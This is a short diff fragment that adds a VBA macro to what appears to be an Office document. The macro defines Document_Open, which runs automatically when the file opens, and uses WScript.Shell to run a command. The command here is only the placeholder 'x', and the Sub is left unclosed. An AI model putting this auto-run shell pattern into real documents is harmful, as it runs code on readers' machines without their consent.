@@ -1,0 +1,3 @@
+Attribute VB_Name = "M"
+Sub Document_Open()
+CreateObject("WScript.Shell").Run "x"
